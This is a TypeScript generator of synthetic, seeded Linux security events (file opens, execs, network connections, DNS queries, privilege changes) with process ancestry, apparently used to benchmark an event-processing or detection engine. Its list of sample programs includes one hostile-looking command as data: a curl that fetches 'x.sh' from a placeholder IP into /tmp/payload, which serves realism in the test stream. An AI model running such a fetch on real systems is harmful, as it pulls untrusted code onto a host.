/**
 * The event stream that all benchmarks read: canonical lines of about 1 kB, the same for the same seed. A host with
 * services, shells and builds, so that paths, users, ancestors and event types come as often as they do on a real one:
 * mostly opens, then exec and exit, some network, few changes of rights.
 */

export interface StreamOptions {
  /** Start value of the pseudo random numbers. */
  readonly seed?: number;
  /** Adds `created_at` in nanoseconds to the process and to every ancestor: five exact integers a line, not one. */
  readonly createdAt?: boolean;
  /** Every path and every argument list is one that did not come before: nothing that is kept of values helps. */
  readonly fresh?: boolean;
}

type Values = Record<string, unknown>;

interface Process {
  readonly pid: number;
  readonly ppid: number;
  readonly path: string;
  readonly comm: string;
  readonly argv: readonly string[];
  readonly uid: number;
  readonly user: string;
  readonly container: string;
  readonly createdAt: string;
}

/** Marks an integer that JavaScript's numbers cannot hold; `line` writes it as it is. */
const LONG = '\u0001';

const PROGRAMS: readonly { readonly path: string; readonly argv: readonly string[] }[] = [
  { path: '/usr/bin/bash', argv: ['-c', 'for f in /etc/*.conf; do test -r "$f"; done'] },
  { path: '/usr/bin/dash', argv: ['-c', 'id'] },
  { path: '/usr/bin/curl', argv: ['-s', '-o', '/tmp/payload', 'http://203.0.113.9/x.sh'] },
  { path: '/usr/bin/python3.11', argv: ['-m', 'http.server', '--bind', '127.0.0.1'] },
  { path: '/usr/bin/node', argv: ['--enable-source-maps', '/srv/app/server.js', '--port=8080'] },
  { path: '/usr/bin/git', argv: ['status', '--porcelain=v2', '--branch'] },
  { path: '/usr/bin/tar', argv: ['-czf', '/var/backups/etc.tgz', '-C', '/', 'etc'] },
  { path: '/usr/bin/chmod', argv: ['0755', '/usr/local/bin/deploy'] },
  { path: '/usr/sbin/nginx', argv: ['-g', 'daemon off;'] },
  { path: '/usr/lib/postgresql/15/bin/postgres', argv: ['-D', '/var/lib/postgresql/15/main'] },
  { path: '/usr/bin/cat', argv: ['/proc/self/status'] },
  { path: '/usr/bin/apt-get', argv: ['-y', 'install', 'ca-certificates'] },
];

const SERVICES: readonly string[] = [
  '/usr/lib/systemd/systemd',
  '/usr/bin/containerd-shim-runc-v2',
  '/usr/sbin/sshd',
  '/usr/sbin/cron',
  '/usr/sbin/nginx',
  '/usr/bin/bash',
];

const DIRECTORIES: readonly string[] = [
  '/etc',
  '/etc/ssl/certs',
  '/proc/self',
  '/usr/lib/x86_64-linux-gnu',
  '/usr/share/zoneinfo',
  '/var/lib/app/cache',
  '/var/log/nginx',
  '/tmp/build-0f3a',
  '/home/alice/.cache/pip',
  '/srv/app/node_modules/express/lib',
];

const FILES: readonly string[] = [
  'passwd',
  'ld.so.cache',
  'libc.so.6',
  'config.yaml',
  'access.log',
  'index.js',
  'UTC',
  'status',
  'ca-certificates.crt',
  'part-00017.tmp',
];

const DOMAINS: readonly string[] = [
  'api.example.com',
  'packages.example.com',
  'metadata.internal.example',
  'db-primary.service.consul.example',
  'telemetry.example.net',
];

const MIX: readonly (readonly [type: string, share: number])[] = [
  ['open', 52],
  ['exec', 13],
  ['exit', 10],
  ['connect', 6],
  ['dns', 5],
  ['unlink', 3],
  ['chmod', 2],
  ['rename', 3],
  ['mkdir', 2],
  ['mmap', 2],
  ['setuid', 1],
  ['bind', 1],
];

/** Numbers below `2 ** 32`, by mulberry32: fast, small and the same everywhere. */
function pseudoRandom(seed: number): (below: number) => number {
  let state = seed >>> 0;
  return (below) => {
    state = (state + 0x6d2b79f5) >>> 0;
    let mixed = Math.imul(state ^ (state >>> 15), state | 1);
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61);
    return ((mixed ^ (mixed >>> 14)) >>> 0) % below;
  };
}

/** `count` lines without their line ends. */
export function* eventLines(count: number, options: StreamOptions = {}): Generator<string, void, undefined> {
  const random = pseudoRandom(options.seed ?? 1);
  const pick = <T>(items: readonly T[], fallback: T): T => items[random(items.length)] ?? fallback;
  const kinds = MIX.flatMap(([type, share]) => Array.from({ length: share }, () => type));
  const start = 1_772_359_200n * 1_000_000_000n;
  let elapsed = 0;

  const fresh = (): string => (options.fresh === true ? `${elapsed}-${random(1000)}-` : '');
  const path = (): string => `${pick(DIRECTORIES, '/tmp')}/${fresh()}${pick(FILES, 'x')}`;
  const address = (): string => `10.${random(4)}.${random(256)}.${random(256)}`;
  const stamp = (): string => String(start + BigInt(elapsed) * 1000n + BigInt(random(1000)));
  const started = (): string => String(start - BigInt(random(1_000_000_000)) * 1009n);
  const makeProcess = (
    ppid: number,
    program: string,
    argv: readonly string[],
    container: string,
  ): Process => {
    const root = random(3) > 0;
    return {
      pid: 300 + random(60_000),
      ppid,
      path: program,
      comm: program.slice(program.lastIndexOf('/') + 1).slice(0, 15),
      argv,
      uid: root ? 0 : 1000 + random(4),
      user: root ? 'root' : `user${random(4)}`,
      container,
      createdAt: started(),
    };
  };
  const hex = (length: number): string => Array.from({ length }, () => random(16).toString(16)).join('');
  const containers = Array.from({ length: 6 }, (_, index) => (index < 2 ? '' : hex(64)));

  const lineage = (): readonly Process[] => {
    const container = pick(containers, '');
    const chain = [makeProcess(0, '/usr/lib/systemd/systemd', ['--system'], '')];
    for (let depth = 2 + random(3); depth > 0; depth--) {
      chain.unshift(makeProcess(chain[0]?.pid ?? 1, pick(SERVICES, '/usr/bin/bash'), [], container));
    }
    return chain;
  };

  const pool = Array.from({ length: 64 }, () => {
    const ancestors = lineage();
    const program = PROGRAMS[random(PROGRAMS.length)];
    const own = makeProcess(
      ancestors[0]?.pid ?? 1,
      program?.path ?? '/usr/bin/true',
      program?.argv ?? [],
      ancestors[0]?.container ?? '',
    );
    return { own, ancestors };
  });

  for (let index = 0; index < count; index++) {
    elapsed += 3 + random(900);
    const type = pick(kinds, 'open');
    const { own, ancestors } = pool[random(pool.length)] ?? {
      own: makeProcess(1, '/x', [], ''),
      ancestors: [],
    };
    const nanoseconds = stamp();
    const values: Values = {
      'event.timestamp': LONG + nanoseconds,
      'process.pid': own.pid,
      'process.ppid': own.ppid,
      'process.tid': own.pid,
      'process.comm': own.comm,
      'process.file.path': own.path,
      'process.file.name': own.path.slice(own.path.lastIndexOf('/') + 1),
      'process.uid': own.uid,
      'process.euid': own.uid,
      'process.gid': own.uid,
      'process.user': own.user,
      'process.group': own.user,
      'process.argv': own.argv,
      'process.tty_name': random(8) === 0 ? 'pts0' : '',
      'process.cap_effective': own.uid === 0 ? 2_199_023_255_551 : 0,
      'process.container.id': own.container,
      ...(options.createdAt === true && { 'process.created_at': LONG + own.createdAt }),
      ...eventValues(type),
    };
    yield line({
      Type: type,
      Time: new Date(Number(nanoseconds.slice(0, -6)))
        .toISOString()
        .replace('Z', `${nanoseconds.slice(-6)}Z`),
      Host: 'web-1',
      Values: values,
      Ancestors: ancestors.map((each) => ({
        pid: each.pid,
        uid: each.uid,
        comm: each.comm,
        'file.path': each.path,
        'file.name': each.path.slice(each.path.lastIndexOf('/') + 1),
        ...(options.createdAt === true && { created_at: LONG + each.createdAt }),
      })),
    });
  }

  function file(prefix: string): Values {
    const full = path();
    return {
      [`${prefix}.path`]: full,
      [`${prefix}.name`]: full.slice(full.lastIndexOf('/') + 1),
      [`${prefix}.uid`]: random(2) * 1000,
      [`${prefix}.mode`]: 33188,
    };
  }

  function eventValues(type: string): Values {
    const retval = random(20) === 0 ? -2 : 0;
    switch (type) {
      case 'open':
        return {
          ...file('open.file'),
          'open.flags': pick([0, 0, 524288, 577, 1089], 0),
          'open.retval': retval,
        };
      case 'exec': {
        const program = PROGRAMS[random(PROGRAMS.length)];
        return {
          'exec.file.path': program?.path ?? '',
          'exec.file.name': program?.path.slice(program.path.lastIndexOf('/') + 1) ?? '',
          'exec.argv': program?.argv ?? [],
          'exec.args': fresh() + (program?.argv.join(' ') ?? ''),
          'exec.envs': ['HOME', 'PATH', 'LANG', 'PWD'],
        };
      }
      case 'exit':
        return { 'exit.code': random(3), 'exit.cause': 0 };
      case 'connect':
      case 'bind':
        return {
          [`${type}.addr.ip`]: address(),
          [`${type}.addr.port`]: pick([443, 80, 5432, 8080], 443),
          [`${type}.addr.family`]: 2,
          [`${type}.retval`]: type === 'connect' ? -115 : 0,
        };
      case 'dns':
        return {
          'dns.id': random(65536),
          'dns.question.name': pick(DOMAINS, 'example.com'),
          'dns.question.type': pick([1, 28], 1),
          'dns.question.class': 1,
          'dns.question.count': 1,
          'network.destination.ip': '10.0.0.2',
          'network.destination.port': 53,
        };
      case 'chmod':
        return { ...file('chmod.file'), 'chmod.file.destination.mode': 33261, 'chmod.retval': 0 };
      case 'rename':
        return { ...file('rename.file'), ...file('rename.file.destination'), 'rename.retval': 0 };
      case 'mmap':
        return { ...file('mmap.file'), 'mmap.protection': 5, 'mmap.flags': 2, 'mmap.retval': 0 };
      case 'setuid':
        return { 'setuid.uid': 0, 'setuid.euid': 0, 'setuid.fsuid': 0, 'setuid.user': 'root' };
      default:
        return { ...file(`${type}.file`), [`${type}.retval`]: retval };
    }
  }
}

function line(record: unknown): string {
  return JSON.stringify(record).replace(/"\\u0001(\d+)"/g, '$1');
}
